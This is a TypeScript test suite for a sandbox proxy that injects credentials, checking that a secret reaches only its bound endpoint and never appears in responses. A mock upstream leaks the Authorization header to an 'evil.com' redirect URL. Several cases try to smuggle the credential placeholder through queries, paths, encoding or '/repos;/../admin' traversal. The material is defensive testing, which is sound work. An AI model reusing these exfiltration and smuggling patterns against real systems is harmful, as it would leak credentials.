/**
 * Credentials through the real proxy: put in at their own endpoint and nowhere else, and never seen in an answer.
 */
import assert from "node:assert/strict";
import { mkdtempSync, rmSync } from "node:fs";
import type { IncomingMessage, ServerResponse } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, it } from "node:test";
import { gzipSync } from "node:zlib";
import pino from "pino";
import { CredentialStore, credentialMethods } from "../../src/gateway/credentials/index.ts";
import type { Client } from "./harness.ts";
import { policyOf } from "./harness.ts";
import { type InspectedWorld, inside, withInspection } from "./inspect-kit.ts";
import { GET } from "./proxy-kit.ts";

const SECRET = "ghx_4f9a/+8Qz-verysecret==";
const PLACEHOLDER = "nemoclaw-credential:github";
const AUTH = `Authorization: Bearer ${PLACEHOLDER}\r\n`;

/** Everything on these hosts is allowed: what is refused below is refused for the credential's sake. */
const POLICY = policyOf(`
version: 1
network_policies:
  a:
    endpoints:
      - { host: api.example.com, ports: [80, 443], protocol: rest, enforcement: enforce, access: full }
      - { host: other.example.com, port: 443, protocol: rest, enforcement: enforce, access: full }
`);

type Respond = (req: IncomingMessage, res: ServerResponse) => void;

/** What an upstream does that echoes everything. */
const ECHO: Respond = (req, res) => {
  const auth = req.headers.authorization ?? "";
  res.setHeader("x-echo", auth);
  res.setHeader("location", `https://evil.com/?t=${encodeURIComponent(auth)}`);
  res.statusMessage = `OK ${auth.replace(/[^ -~]/g, "")}`;
  for (let i = 0; i < auth.length; i += 3) res.write(auth.slice(i, i + 3));
  res.end(`|${Buffer.from(auth).toString("base64")}|${encodeURIComponent(auth)}|end.`);
};

interface Given {
  readonly store: CredentialStore;
  readonly dir: string;
  readonly world: InspectedWorld;
}

async function withCredential(
  respond: Respond,
  work: (given: Given) => Promise<void>,
  more: object = {},
): Promise<void> {
  const dir = mkdtempSync(join(tmpdir(), "cr-"));
  const labels = (id: string) => [id, "my-agent", "profile:default"];
  const store = new CredentialStore({ dir, logger: pino({ level: "fatal" }), labelsOf: labels });
  const binding = {
    name: "github",
    host: "API.example.com",
    header: "Authorization: Bearer {}",
    for: ["my-agent"],
  };
  await credentialMethods(store)["credentials.add"]!.run({ ...binding, secret: SECRET, ...more });
  try {
    await withInspection({ policy: POLICY, respond, credentials: store.forSandbox("p_test") }, (world) =>
      work({ store, dir, world }),
    );
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

/** No spelling of the secret that a person could read back. */
function assertClean(text: string): void {
  for (const form of [
    SECRET,
    encodeURIComponent(SECRET),
    SECRET.slice(4, 20),
    Buffer.from(SECRET).toString("base64").slice(2, 30),
  ])
    assert.ok(!text.includes(form), `${form} in ${text}`);
  assert.ok(!text.includes(Buffer.from(`Bearer ${SECRET}`).toString("base64").slice(12, 36)), text);
}

async function ask(world: InspectedWorld, request: string, host = "api.example.com"): Promise<Client> {
  const client = (await world.open(host)).send(request);
  assert.ok(await client.until((c) => c.text.includes("end.") || c.ended || c.closed), client.text);
  return client;
}

describe("credentials", () => {
  it("the secret is put in at its endpoint, and every echo of it is covered", async () => {
    await withCredential(ECHO, async ({ world }) => {
      const client = await ask(
        world,
        inside("GET", "/x", `${AUTH}Accept-Encoding: gzip\r\nRange: bytes=0-3\r\n`),
      );
      assert.equal(client.status, 200, client.text);
      const [seen] = world.harness.seen;
      assert.equal(seen?.headers.authorization, `Bearer ${SECRET}`);
      assert.equal(seen?.headers["accept-encoding"], "identity");
      assert.equal(seen?.headers["range"], undefined);
      assert.match(client.text, /x-echo: Bearer \*+\r\n/);
      assert.match(client.text, /\|end\./);
      assertClean(client.text);
      const row = world.harness.rows.find((one) => one.scheme === "https" && one.event === "decision");
      assert.equal(row?.credential, "github");
      assert.ok(!JSON.stringify(world.harness.rows).includes(SECRET));
      // Without a placeholder nothing is touched.
      const plain = await ask(
        world,
        inside("GET", "/y", "Authorization: Bearer own\r\nAccept-Encoding: gzip\r\n"),
      );
      assert.match(plain.text, /x-echo: Bearer own\r\n/);
      assert.equal(world.harness.seen[1]?.headers["accept-encoding"], "gzip");
    });
  });

  it("whatever scheme the client writes before it, the operator's template decides", async () => {
    await withCredential(ECHO, async ({ world }) => {
      for (const value of [PLACEHOLDER, `token ${PLACEHOLDER}`]) {
        await ask(world, inside("GET", "/", `authorization: ${value}\r\n`));
        assert.equal(world.harness.seen.at(-1)?.headers.authorization, `Bearer ${SECRET}`);
      }
    });
  });

  const refused: [what: string, host: string, request: string, reason: string][] = [
    [
      "another host",
      "other.example.com",
      inside("GET", "/", AUTH, "other.example.com"),
      "credential_wrong_endpoint",
    ],
    [
      "another header",
      "api.example.com",
      inside("GET", "/", `X-Token: ${PLACEHOLDER}\r\n`),
      "credential_wrong_place",
    ],
    ["the query", "api.example.com", inside("GET", `/?t=${PLACEHOLDER}`), "credential_wrong_place"],
    [
      "the query, escaped",
      "api.example.com",
      inside("GET", `/?t=${encodeURIComponent(PLACEHOLDER)}`),
      "credential_wrong_place",
    ],
    [
      "the query, escaped letters",
      "api.example.com",
      inside("GET", `/?t=%6Eemoclaw-credential%3Agithub`),
      "credential_wrong_place",
    ],
    ["the path", "api.example.com", inside("GET", `/${PLACEHOLDER}`), "credential_wrong_place"],
    [
      "header and query",
      "api.example.com",
      inside("GET", `/?t=${PLACEHOLDER}`, AUTH),
      "credential_wrong_place",
    ],
    ["the header twice", "api.example.com", inside("GET", "/", AUTH + AUTH), "credential_wrong_place"],
    [
      "beside another of the same name",
      "api.example.com",
      inside("GET", "/", `${AUTH}Authorization: x\r\n`),
      "credential_wrong_place",
    ],
    [
      "amid other text",
      "api.example.com",
      inside("GET", "/", `Authorization: a ${PLACEHOLDER} b\r\n`),
      "credential_wrong_place",
    ],
    [
      "an unknown name",
      "api.example.com",
      inside("GET", "/", "Authorization: Bearer nemoclaw-credential:nope\r\n"),
      "credential_unknown",
    ],
    [
      "no name",
      "api.example.com",
      inside("GET", "/", "Authorization: Bearer nemoclaw-credential:\r\n"),
      "credential_unknown",
    ],
    ["another method", "api.example.com", inside("DELETE", "/", AUTH), "credential_wrong_endpoint"],
    ["another path", "api.example.com", inside("GET", "/admin/x", AUTH), "credential_wrong_endpoint"],
    [
      "a path by parameters",
      "api.example.com",
      inside("GET", "/repos;/../admin/x", AUTH),
      "credential_wrong_endpoint",
    ],
  ];
  for (const [what, host, request, reason] of refused) {
    it(`a placeholder in ${what} is refused, and nothing is sent`, async () => {
      const bound = { methods: ["GET", "POST"], paths: ["/", "/repos/**"] };
      await withCredential(
        ECHO,
        async ({ world }) => {
          const client = await ask(world, request, host);
          assert.ok(await client.gone());
          assert.equal(client.status, 403, client.text);
          assert.equal(client.body["error"], "credential_endpoint_mismatch");
          assert.ok(
            world.harness.rows.some((row) => row.reason === reason && row.verdict === "deny"),
            JSON.stringify(world.harness.rows),
          );
          assert.deepEqual([world.harness.seen.length, world.harness.dials.length], [0, 0]);
          assertClean(client.text);
        },
        bound,
      );
    });
  }

  it("never over plain HTTP, and not for another sandbox", async () => {
    await withCredential(ECHO, async ({ world }) => {
      const client = world.harness.client().send(GET("http://api.example.com/", AUTH));
      assert.ok(await client.gone());
      assert.equal(client.body["error"], "credential_endpoint_mismatch");
      assert.equal(world.harness.rows[0]?.reason, "credential_not_inspected");
      assert.equal(world.harness.dials.length, 0);
    });
    await withCredential(
      ECHO,
      async ({ world }) => {
        const client = await ask(world, inside("GET", "/", AUTH));
        assert.equal(client.status, 403);
        assert.ok(world.harness.rows.some((row) => row.reason === "credential_not_for_sandbox"));
      },
      { for: ["somebody-else", "profile:other"] },
    );
  });

  it("a port is part of the binding", async () => {
    await withCredential(
      ECHO,
      async ({ world }) => {
        const client = await ask(world, inside("GET", "/", AUTH));
        assert.equal(client.status, 403);
        assert.equal(world.harness.dials.length, 0);
      },
      { port: 8443 },
    );
  });

  it("after a redirect the next request is judged for itself", async () => {
    const redirect: Respond = (_req, res) =>
      void res.writeHead(302, { location: "https://other.example.com/" }).end("end.");
    await withCredential(redirect, async ({ world }) => {
      const first = await ask(world, inside("GET", "/", AUTH));
      assert.equal(first.status, 302);
      const second = await ask(world, inside("GET", "/", AUTH, "other.example.com"), "other.example.com");
      assert.equal(second.status, 403);
      assert.equal(world.harness.seen.length, 1);
    });
  });

  for (const [what, respond] of [
    [
      "compressed all the same",
      (_req, res) => void res.writeHead(200, { "content-encoding": "gzip" }).end(gzipSync(SECRET)),
    ],
    [
      "a piece of a whole",
      (_req, res) => void res.writeHead(206, { "content-range": "bytes 0-3/20" }).end(SECRET.slice(0, 4)),
    ],
  ] as [string, Respond][]) {
    it(`an answer that is ${what} is not passed on`, async () => {
      await withCredential(respond, async ({ world }) => {
        const client = await ask(world, inside("GET", "/", AUTH));
        assert.ok(await client.gone());
        assert.equal(client.status, 502);
        assert.equal(client.body["error"], "response_unscrubbable");
      });
    });
  }

  it("nor is a WebSocket", async () => {
    const policy = policyOf(
      "version: 1\nnetwork_policies: { a: { endpoints: [{ host: api.example.com, port: 443, protocol: websocket, enforcement: enforce, access: full }] } }",
    );
    await withCredential(ECHO, async ({ world }) => {
      world.harness.reload(policy);
      world.harness.onUpgrade((req, socket) => {
        socket.end(
          `HTTP/1.1 101 OK\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n${req.headers.authorization}`,
        );
      });
      const client = await ask(
        world,
        inside("GET", "/", `${AUTH}Connection: Upgrade\r\nUpgrade: websocket\r\n`),
      );
      assert.ok(await client.gone());
      assert.equal(client.status, 502, client.text);
      assert.equal(client.body["error"], "response_unscrubbable");
    });
  });

  it("an error of upstream is scrubbed like any answer", async () => {
    const respond: Respond = (req, res) =>
      void res.writeHead(401).end(`bad token ${req.headers.authorization}, end.`);
    await withCredential(respond, async ({ world }) => {
      const client = await ask(world, inside("GET", "/", AUTH));
      assert.equal(client.status, 401);
      assertClean(client.text);
    });
  });

  it("removed, it is unknown at once", async () => {
    await withCredential(ECHO, async ({ world, store }) => {
      const client = await world.open("api.example.com");
      client.send(inside("GET", "/", AUTH));
      assert.ok(await client.until((c) => c.text.includes("|end.")));
      store.remove("github");
      client.clear().send(inside("GET", "/", AUTH));
      assert.ok(await client.gone());
      assert.equal(client.status, 403);
    });
  });
});
